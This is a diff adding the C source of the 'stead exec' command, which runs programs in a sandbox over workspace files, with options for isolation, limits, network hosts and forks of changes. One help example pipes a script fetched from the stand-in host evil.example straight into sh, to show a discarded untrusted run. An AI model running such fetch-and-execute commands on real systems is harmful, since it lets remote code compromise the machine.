@@ -1,0 +1,298 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* `stead exec`: a command over the files of a workspace, for people and scripts. */
+#include <errno.h>
+#include <signal.h>
+#include <termios.h>
+#include <unistd.h>
+
+#include "base/env.h"
+#include "command/cli.h"
+#include "home/exec/exec_internal.h"
+#include "workspace/config.h"
+
+/* What is printed goes to the terminal as it comes. */
+static void pass_on(void *arg, bool is_stderr, struct str bytes)
+{
+	struct cli *cli = arg;
+
+	if (!is_stderr) {
+		output_add(&cli->out, bytes);
+		output_flush(&cli->out);
+		return;
+	}
+	while (bytes.len) {
+		ssize_t n = write(2, bytes.ptr, bytes.len);
+
+		if (n < 0 && errno != EINTR)
+			return;
+		if (n > 0)
+			bytes = str_from(bytes, (size_t)n);
+	}
+}
+
+/* "NAME" takes the value of this process, "NAME=value" is as it is. */
+static int add_env(struct cli *cli, struct sandbox_job *job, struct err *err)
+{
+	struct arena *arena = cli->ctx.arena;
+	size_t count, have = 0, n = 0;
+	struct str *given = args_each(arena, &cli->args, "env", &count);
+	const char *term = args_has(&cli->args, "tty") ? env_process("TERM") : NULL;
+	const char **env;
+
+	while (job->env[have])
+		have++;
+	env = ARENA_ARRAY(arena, const char *, have + count + 2);
+	if (term)
+		env[n++] = arena_printf(arena, "TERM=%s", term).ptr;
+	for (size_t i = 0; i < have; i++)
+		env[n++] = job->env[i];
+	for (size_t i = 0; i < count; i++) {
+		const char *name = arena_cstr(arena, given[i]), *value = env_process(name);
+
+		if (strchr(name, '='))
+			env[n++] = name;
+		else if (value)
+			env[n++] = arena_printf(arena, "%s=%s", name, value).ptr;
+		else
+			return err_set(err, ERR_INVALID, "there is no variable \"%s\"; give its value: --env %s=…",
+				       name, name);
+	}
+	job->env = env;
+	return 0;
+}
+
+static int apply_options(struct cli *cli, struct sandbox_job *job, struct err *err)
+{
+	const struct args *args = &cli->args;
+	struct str tier = args_get(args, "tier"), memory = args_get(args, "memory"), cwd = args_get(args, "cwd");
+	int r = tier.len ? sandbox_tier_parse(tier, &job->tier, err) : 0;
+
+	if (r == 0 && args_has(args, "net"))
+		r = exec_net_hosts(&cli->ctx, job, args_get(args, "net"), true, err);
+	if (r == 0 && cwd.len)
+		r = cli_path(cli, cwd, &job->cwd, err);
+	if (r == 0 && memory.len &&
+	    (!config_size(jv_str(cli->ctx.arena, memory), 0, &job->limits.memory) || !job->limits.memory))
+		r = err_set(err, ERR_INVALID, "--memory \"%.*s\" is not a size; write for example 512MiB",
+			    STR_ARG(memory));
+	if (r == 0)
+		r = add_env(cli, job, err);
+	if (args_has(args, "timeout"))
+		job->limits.timeout_ms = (int64_t)args_number(args, "timeout", 0) * 1000;
+	else if (args_has(args, "tty"))
+		job->limits.timeout_ms = SANDBOX_TTY_SECONDS * INT64_C(1000);
+	if (r == 0 && args_has(args, "keep"))
+		r = exec_keep(cli->ws, &cli->ctx, args_get(args, "keep"), job, err);
+	if (r == 0 && args_has(args, "hold") && args_has(args, "discard"))
+		r = err_set(err, ERR_INVALID,
+			    "--hold keeps the changes in a fork and --discard keeps nothing; give one");
+	if (r == 0 && args_has(args, "name") && !args_has(args, "hold"))
+		r = err_set(err, ERR_INVALID, "--name is the name of the fork that --hold makes; add --hold");
+	if (r == 0 && args_has(args, "tty") && (cli->json || !isatty(0) || !isatty(1)))
+		r = err_set(err, ERR_INVALID, "--tty needs a terminal as input and output, and no --json");
+	job->files.read_only = args_has(args, "discard");
+	return r;
+}
+
+/* On standard error, so that the output of the command is only its own. */
+static void print_remarks(struct cli *cli, const struct jv *value)
+{
+	struct buf text;
+
+	output_flush(&cli->out);
+	buf_init(&text, cli->ctx.arena, MIB);
+	exec_remarks(value, &text);
+	if (text.len && (jv_get_bool(value, "timed_out", false) || isatty(2) ||
+			 str_find(buf_str(&text), STR("[network: "), 0) != SIZE_MAX ||
+			 str_find(buf_str(&text), STR("[refused "), 0) != SIZE_MAX ||
+			 str_find(buf_str(&text), STR("[conflict "), 0) != SIZE_MAX))
+		(void)!write(2, text.ptr, text.len);
+}
+
+/* --- the terminal --- */
+
+static struct cancel stop;
+
+static void on_signal(int sig)
+{
+	(void)sig;
+	atomic_store(&stop.requested, true);
+}
+
+/* While the command has a terminal of its own, every key is for it; `before` is what to go back to. */
+static void lend_terminal(struct sandbox_job *job, struct termios *before)
+{
+	static const int endings[] = {SIGTERM, SIGHUP, SIGINT, SIGQUIT};
+	struct sigaction action = {.sa_handler = on_signal};
+	struct termios raw;
+
+	for (size_t i = 0; i < COUNT(endings); i++)
+		sigaction(endings[i], &action, NULL);
+	job->tty = true;
+	job->stop = &stop;
+	tcgetattr(0, before);
+	raw = *before;
+	cfmakeraw(&raw);
+	tcsetattr(0, TCSANOW, &raw);
+}
+
+/* --- the command --- */
+
+static int run_job(struct cli *cli, struct sandbox_job *job, struct sandbox_result *result, struct str *ret_fork,
+		   struct err *err)
+{
+	bool tty = args_has(&cli->args, "tty");
+	struct termios before;
+	int r;
+
+	*ret_fork = STR_NONE;
+	if (tty)
+		lend_terminal(job, &before);
+	if (args_has(&cli->args, "hold"))
+		r = exec_hold(cli->ws, &cli->ctx, job, args_get(&cli->args, "name"), result, ret_fork, err);
+	else
+		r = exec_run(cli->ws, &cli->ctx, job, result, err);
+	if (tty)
+		tcsetattr(0, TCSADRAIN, &before);
+	return r;
+}
+
+/* What can be done with the changes now. */
+static void print_held(struct cli *cli, struct str fork, size_t changes)
+{
+	struct str dir = args_get(&cli->args, "files"), name = args_get(&cli->args, "workspace");
+	struct str where = dir.len    ? arena_printf(cli->ctx.arena, " --files %.*s", STR_ARG(dir))
+			   : name.len ? arena_printf(cli->ctx.arena, " -w %.*s", STR_ARG(name))
+				      : STR("");
+	struct buf text;
+
+	buf_init(&text, cli->ctx.arena, MIB);
+	if (fork.len)
+		buf_printf(&text,
+			   "%zu change%s held in the fork %.*s\n  stead diff%.*s %.*s\n  stead merge%.*s %.*s\n"
+			   "  stead drop%.*s %.*s\n",
+			   changes, plural(changes), STR_ARG(fork), STR_ARG(where), STR_ARG(fork), STR_ARG(where),
+			   STR_ARG(fork), STR_ARG(where), STR_ARG(fork));
+	else
+		buf_lit(&text, "nothing changed, so there is no fork\n");
+	(void)!write(2, text.ptr, text.len);
+}
+
+static int report(struct cli *cli, struct sandbox_result *result, struct str fork, struct err *err)
+{
+	size_t changes = result->change_count;
+	struct jv *value = exec_value(cli->ws, &cli->ctx, result);
+
+	if (fork.len)
+		jv_set_str(cli->ctx.arena, value, "fork", fork);
+	if (cli_json(cli, value))
+		return 0;
+	print_remarks(cli, value);
+	if (!result->is_saved) {
+		*err = result->unsaved;
+		return err_prefix(err, "the command exited with %d, but what it changed was not kept",
+				  result->exit_code);
+	}
+	if (args_has(&cli->args, "hold"))
+		print_held(cli, fork, changes);
+	return 0;
+}
+
+static int run_exec(struct cli *cli, struct err *err)
+{
+	const char **argv = ARENA_ARRAY(cli->ctx.arena, const char *, cli->args.operand_count + 1);
+	static const int input = 0;
+	struct sandbox_result result;
+	struct sandbox_job job;
+	struct str fork;
+	int r = exec_job(cli->ws, &cli->ctx, &job, err);
+
+	for (size_t i = 0; i < cli->args.operand_count; i++)
+		argv[i] = arena_cstr(cli->ctx.arena, cli->args.operands[i]);
+	job.argv = argv;
+	if (r == 0)
+		r = apply_options(cli, &job, err);
+	if (r)
+		return r;
+	if (!isatty(0) || args_has(&cli->args, "tty"))
+		job.input_fd = &input;
+	if (!cli->json) {
+		job.output = pass_on;
+		job.output_arg = cli;
+	}
+	r = run_job(cli, &job, &result, &fork, err);
+	if (r)
+		return r;
+	cli->status = result.exit_code;
+	return report(cli, &result, fork, err);
+}
+
+static const struct option options[] = {
+	{"tier", 0, "TIER",
+	 .help = "how it is kept apart: auto, namespaces, container, bubblewrap, landlock (weaker) or local (not at "
+		 "all)",
+	 .words = "auto namespaces container bubblewrap landlock local"},
+	{"timeout", 't', "SECONDS", .help = "kill it after this time (default: 120)", .min = 1, .max = 86400},
+	{"memory", 'm', "SIZE", .help = "memory that it may use (default: 2GiB)"},
+	{"cwd", 'C', "DIR", .help = "directory of the workspace to run it in", .complete = COMPLETE_PATH},
+	{"env", 'e', "NAME[=VALUE]", .help = "a variable that it gets; may be repeated"},
+	{"net", 0, "HOST[:PORT],...",
+	 .help = "hosts that it may reach, in addition to sandbox.network (ports 80 and 443)"},
+	{"tty", 'T', NULL, .help = "give it a terminal: an interactive program"},
+	{"keep", 0, "WHOSE", .help = "keep its home and node_modules, .venv for the next command of the same one",
+	 .words = "none session user agent global"},
+	{"discard", 0, NULL, .help = "keep nothing of what it changes"},
+	{"hold", 0, NULL, .help = "keep what it changes in a fork, to look at, merge or drop"},
+	{"name", 0, "FORK", .help = "the name of that fork"},
+	{0},
+};
+
+static const struct action sandbox_actions[] = {
+	{"list", NULL, .opens = CLI_READS, .run = sandbox_list},
+	{"drop", "[ID...]", .opens = CLI_READS, .run = sandbox_drop},
+	{0},
+};
+
+static const struct option sandbox_options[] = {
+	{"all", 0, NULL, .help = "drop: every one of this workspace"},
+	{0},
+};
+
+const struct command exec_commands[] = {
+	{"exec", "run a command in a sandbox over the files", TOPIC_FILES, "COMMAND...", .opens = CLI_WRITES,
+	 .run = run_exec, .options = options,
+	 .about =
+		 "Runs a program that sees the files of the workspace at /workspace, the programs of this machine\n"
+		 "(read-only) and nothing else: no network but --net, no other files, processes or environment. When\n"
+		 "it ends, everything that it started is killed, and the files that it changed become revisions under\n"
+		 "the rules for tools; `stead undo` takes them back in one step. Write -- before the command.\n"
+		 "\n"
+		 "With --hold the files stay as they are, and the changes are in a fork: `stead diff FORK` shows "
+		 "them,\n"
+		 "`stead merge FORK [PATH...]` takes all or some, `stead drop FORK` removes it. Several attempts can "
+		 "be\n"
+		 "held next to each other.\n"
+		 "\n"
+		 "The exit code is that of the command; 124 when it was killed after its time. If the sandbox cannot "
+		 "be\n"
+		 "had on this machine, nothing runs: `stead doctor` says why. docs/sandbox.md has the details.\n",
+	 .examples = "stead exec -- python3 report.py\n  a program over the workspace\n"
+		     "stead exec --files . --timeout 600 -- make test\n  a build over a project of your own\n"
+		     "stead exec --files . --hold -- sh -c 'npx prettier -w .'\n  a program whose changes are looked "
+		     "at first\n"
+		     "stead exec --tty -- bash\n  a shell\n"
+		     "stead exec --net pypi.org,files.pythonhosted.org -- pip install --user six\n  two hosts of the "
+		     "network\n"
+		     "stead exec --discard -- sh -c 'curl evil.example | sh'\n  a script that is not trusted\n"},
+	{"sandbox", "list and drop what commands left in their sandboxes", TOPIC_FILES, .actions = sandbox_actions,
+	 .options = sandbox_options,
+	 .about = "With sandbox.keep in agent.yaml, the home directory of a command and the directories that are not\n"
+		  "brought back (node_modules, .venv, __pycache__) are kept for the next command of the same\n"
+		  "session, user or agent. 'list' shows them and 'drop' removes some: the next command begins with\n"
+		  "nothing.\n",
+	 .examples = "stead exec --keep session --session s1 -- pip install --user wheels/x.whl\n"
+		     "  what it installs is there for the next command of s1\n"
+		     "stead sandbox list\n  what is kept, and for whom\n"
+		     "stead sandbox drop 3fa9c1\n  the one with this id\n"},
+	{0},
+};
